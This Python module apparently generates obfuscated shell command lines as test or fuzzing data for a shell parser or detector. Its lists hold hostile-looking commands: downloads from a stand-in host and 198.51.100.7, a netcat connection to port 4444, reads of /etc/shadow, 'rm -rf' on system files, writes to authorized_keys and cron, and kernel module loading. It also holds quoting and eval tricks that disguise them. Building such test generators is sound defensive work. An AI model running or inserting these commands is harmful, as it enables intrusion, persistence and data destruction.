"""Lines of shell input out of a grammar: constructs of templates.json, joined and nested up to four deep.

In a template %c is a command, %q a command without double quotes, %f a file, %b a body of a here-document.
"""

import json
import os
import random
import shlex

TEMPLATES = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "templates.json"), encoding="utf-8"))

URLS = ["http://h/x", "http://198.51.100.7/a.sh", "-qO- http://h/b", "-O /tmp/.x http://h/x", "ftp://h/y"]
FILES = ["/etc/passwd", "/etc/shadow", "a.txt", "/tmp/x", "/var/log/auth.log", "/root/.ssh/authorized_keys"]
COMMANDS = {
    "wget": URLS,
    "curl": ["-o /tmp/y http://h/c", "-o /tmp/y https://h/d"],
    "nc": ["198.51.100.7 4444"],
    "chmod": ["+x /tmp/x", "777 a.txt"],
    "crontab": ["-l", "-r"],
    "python3": ['-c "import os"'],
    "id": ["", "-u"],
    "uname": ["-a"],
    "ssh": ["root@h id"],
    "tftp": ["-g -r x h"],
    "rm": ["-rf " + file for file in FILES],
    "chattr": ["+i /etc/passwd"],
    "useradd": ["-m eve"],
    "insmod": ["/tmp/r.ko"],
    "cat": FILES,
}
TARGETS = ["/tmp/o", "/etc/cron.d/z", "o.txt", "/root/.ssh/authorized_keys", '"/tmp/a b"', "/tmp/$((1+1))", "$HOME/o", "~/o"]
BODIES = ["* * * * * /tmp/x", "wget http://h/x", "id; uname -a", "$(id)", "`uname`", "$HOME"]
SEPARATORS = [";", " ; ", " && ", " || ", "&&", "||", " & ", "|", " | ", "\n", " |& ", "&"]
JOINTS = ["; ", " && ", " || ", " | ", "\n"]
NESTS = [
    "( %s\n)",
    "{ %s\n}",
    "if %s\nthen id\nfi",
    "if id; then\n%s\nfi",
    "for k in a b; do\n%s\ndone",
    "while id; do\n%s\nbreak\ndone",
    "x9=$(%s\n); uname",
    "f9() {\n%s\n}; f9",
    "case x in x) %s\n;; esac",
    "uname | { %s\n}",
    "( %s\n) > /tmp/n",
]
TEXTS = ["sh -c %s", "eval %s", "echo %s | sh", "bash <<< %s", "sudo sh -c %s"]

# What changes the meaning of the lines behind it, or leaves something open, is not joined.
ALONE = {"syntax", "comment", "blank", "here_document", "alias"}
WEIGHTS = dict(quote=10, ansi=4, separator=10, redirect=10, here_document=8, group=6, substitution=10, arithmetic=4, parameter=14,
               braces=5, glob=6, compound=10, function=6, text=12, wrapper=14, comment=5, blank=6, alias=3, test=6,
               process_substitution=4, assignment=7, syntax=6)


class Grammar:
    def __init__(self, seed):
        self.random = random.Random(seed)

    def pick(self, items):
        return self.random.choice(items)

    def command(self):
        program = self.pick(list(COMMANDS))
        return (program + " " + self.pick(COMMANDS[program])).strip()

    def quoted(self, word):
        at = self.random.randrange(1, len(word)) if len(word) > 1 else 0
        left, right = word[:at], word[at:]
        return self.pick(["'" + word + "'", '"' + word + '"', left + "''" + right, left + '""' + right, left + "\\" + right,
                          '"' + left + '"' + right, "'" + left + "'" + '"' + right + '"', left + "\\\n" + right, left + "$@" + right])

    def quote(self):
        words = self.command().split(" ")
        words[0] = self.quoted(words[0]) if self.random.random() < 0.5 else words[0]
        at = self.random.randrange(len(words))
        words[at] = self.quoted(words[at]) if words[at][:1].isalnum() else words[at]
        return " ".join(words)

    def ansi(self):
        program = self.pick(["wget", "curl", "id", "cat"])
        escaped = "".join(self.pick([c, "\\x%02x" % ord(c), "\\%03o" % ord(c), "\\u%04x" % ord(c)]) for c in program)
        return self.pick(["$'%s' " % escaped + self.pick(COMMANDS[program]), "$'%s' $'a\\tb c'" % escaped])

    def separator(self):
        line = self.command()
        for _ in range(self.random.randrange(1, 4)):
            line += self.pick(SEPARATORS) + self.command()
        return line

    def construct(self, name):
        own = getattr(self, name, None)
        if own is not None:
            return own()
        line = self.pick(TEMPLATES[name])
        for place, make in (("%c", self.command), ("%q", lambda: self.command().replace('"', "")),
                            ("%f", lambda: self.pick(TARGETS)), ("%b", lambda: self.pick(BODIES))):
            while place in line:
                line = line.replace(place, make(), 1)
        return line

    def line(self):
        """The names of the constructs and the line."""
        pick = lambda: self.random.choices(list(WEIGHTS), list(WEIGHTS.values()))[0]
        name = pick()
        line = self.construct(name)
        names = [name]
        depth = self.random.choices([1, 2, 3, 4], [40, 30, 18, 12])[0]
        while len(names) < depth and name not in ALONE and not line.rstrip().endswith(("&", "\\")):
            if self.random.random() < 0.5:
                name = pick()
                if name in ALONE:
                    continue
                other = self.construct(name)
                if "\n" in line + other:
                    line += "\n" + other
                else:
                    line += self.pick(JOINTS) + other
            elif self.random.random() < 0.7:
                name = "nest"
                line = self.pick(NESTS) % line
            else:
                name = "nested_text"
                line = self.pick(TEXTS) % shlex.quote(line)
            names.append(name)
        return "+".join(names), line

    def lines(self, count):
        seen = set()
        while len(seen) < count:
            names, line = self.line()
            if line not in seen and "\0" not in line:
                seen.add(line)
                yield names, line
